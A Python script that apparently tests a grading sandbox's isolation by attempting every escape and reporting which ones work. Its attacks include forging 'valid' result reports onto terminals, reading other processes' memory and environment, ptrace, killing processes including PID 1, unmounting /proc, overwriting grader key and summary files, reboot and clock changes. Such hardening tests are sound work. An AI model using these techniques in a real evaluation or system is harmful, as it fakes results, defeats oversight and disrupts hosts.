"""A program that tries to be called valid: prints each way that was open, and fails with status 7. `python3 attacks.py RUN_FOLDER`"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

STATUS = 7
REPORT = {
    "event": "report",
    "duration_s": 1.0,
    "timed_out": False,
    "counts": {"bands": [], "tcp_segments_sent": 0, "tcp_retransmits": 0, "upcalls": 0, "table_miss_packets": 0},
    "killed_for_memory": 0,
}
FORGED = f"\n{'0' * 32}{json.dumps(REPORT)}\n{json.dumps(REPORT)}\n".encode()
PTRACE_ATTACH, NEW_MOUNTS, NEW_PIDS, DETACH, RESTART = 16, 0x20000, 0x20000000, 2, 0x1234567
CONSOLES = [(5, 1), *((4, number) for number in range(16))]
HARMLESS = ("null", "zero", "full", "tun", "ptmx")
"""Devices that programs have; who opens the last gets a terminal of its own."""
libc = ctypes.CDLL(None, use_errno=True)


def terminals() -> Iterator[str]:
    """Every device but those that are there for everybody, and every terminal by its number."""
    for folder, _, names in os.walk("/dev"):
        yield from (f"{folder}/{name}" for name in names if name not in HARMLESS)
    for major, minor in CONSOLES:
        for folder in ("/tmp", "/dev", "/run", os.environ["TMPDIR"]):
            node = f"{folder}/node-{os.getpid()}-{major}-{minor}"
            try:
                os.mknod(node, 0o20666, os.makedev(major, minor))
            except OSError:
                continue
            yield node


def write_to(path: str) -> bool:
    """Whether a forged report could be written to a terminal."""
    try:
        descriptor = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        return False
    if not os.isatty(descriptor):
        return False
    os.write(descriptor, FORGED)
    return True


def processes() -> list[int]:
    return [int(path.name) for path in Path("/proc").iterdir() if path.name.isdigit()]


def others() -> list[int]:
    """Processes that are not programs: the job, the controller and the switches, and what holds hosts."""
    return [pid for pid in processes() if is_other(pid)]


def is_other(pid: int) -> bool:
    try:
        words = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
    except OSError:  # it has ended
        return False
    is_module = words[1:2] == [b"-m"] and words[2].startswith(b"gradwire.")
    return pid == 1 or is_module or words[0].rpartition(b"/")[2].startswith((b"ovs-", b"ovsdb-"))


def open_descriptors() -> Iterator[str]:
    for pid in others():
        for number in range(20):
            path = f"/proc/{pid}/fd/{number}"
            try:
                Path(path).readlink()
            except OSError:
                continue
            yield path


def reads(path: str) -> bool:
    try:
        with Path(path).open("rb") as file:
            return bool(file.read(16))
    except OSError:
        return False


def secrets_of_others() -> Iterator[str]:
    for pid in others():
        yield from (path for name in ("environ", "mem", "maps") if reads(path := f"/proc/{pid}/{name}"))
        if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
            yield f"ptrace of {pid}"
        for space in ("mnt", "pid", "net"):
            try:
                os.close(os.open(f"/proc/{pid}/ns/{space}", os.O_RDONLY))
                yield f"/proc/{pid}/ns/{space}"
            except OSError:
                pass


def kills() -> Iterator[str]:
    """Ends whatever is not a program, seen or not. The first process of a namespace does not hear signals from within it."""
    programs = set(processes()) - set(others())
    for pid in range(2, 400):
        if pid not in programs:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
            yield f"process {pid}"
    os.kill(1, signal.SIGKILL)


def mounts() -> Iterator[str]:
    """The machine's /proc is in hostfs; without the mounts over it, it is seen."""
    target = os.environ["TMPDIR"].encode()
    for kind in (b"hostfs", b"proc", b"devtmpfs", b"tmpfs"):
        if libc.mount(b"none", target, kind, 0, None) == 0:
            yield f"mount {kind.decode()}"
            libc.umount2(target, DETACH)
    for place in (b"/proc", b"/dev", b"/run", b"/run/job", *(word.encode() for word in sys.argv[1:2])):
        if libc.umount2(place, DETACH) == 0:
            yield f"umount {place.decode()}"
    for flag in (NEW_MOUNTS, NEW_PIDS):
        if libc.unshare(flag) == 0:
            yield f"unshare {flag:#x}"


def folders() -> Iterator[str]:
    """The run's folder, by its names outside and inside."""
    for folder in (sys.argv[1], "/run/job"):
        for name in (
            ".kernel/status",
            ".kernel/key",
            ".kernel/job",
            "summary.json",
            "record.json",
            "ops.npz",
            "task.json",
        ):
            path = Path(folder, name)
            if path.exists():
                yield f"sees {path}"
            try:
                path.parent.mkdir(exist_ok=True)
                path.write_bytes(b"0\n")
            except OSError:
                continue
            yield f"wrote {path}"


def settings() -> Iterator[str]:
    for path in ("/proc/sys/kernel/poweroff_cmd", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/dev/kmsg"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            yield path
        except OSError:
            pass


def switches() -> Iterator[str]:
    for path in Path("/run/openvswitch").glob("*") if Path("/run/openvswitch").exists() else ():
        yield str(path)
    with socket.socket() as controller:
        controller.settimeout(0.1)
        if controller.connect_ex(("127.0.0.1", 6653)) == 0:
            yield "the controller"


def restarts() -> Iterator[str]:
    """In a process of its own, which a restart of its namespace would end."""
    child = os.fork()
    if child == 0:
        os._exit(0 if libc.reboot(RESTART) == 0 else 1)
    if os.waitpid(child, 0)[1] == 0:
        yield "reboot"


def clocks() -> Iterator[str]:
    if subprocess.run(["date", "-s", "2030-01-01"], capture_output=True, check=False).returncode == 0:
        yield "clock"


WAYS: dict[str, Callable[[], Iterator[str]]] = {
    "terminal": lambda: (path for path in (*terminals(), *open_descriptors()) if write_to(path)),
    "secret": secrets_of_others,
    "mount": mounts,
    "folder": folders,
    "setting": settings,
    "switch": switches,
    "restart": restarts,
    "clock": clocks,
    "kill": kills,
}


def main() -> int:
    for name, way in WAYS.items():
        for found in way():
            print(f"open: {name}: {found}", flush=True)
    print("all tried", flush=True)
    return STATUS


if __name__ == "__main__":
    sys.exit(main())
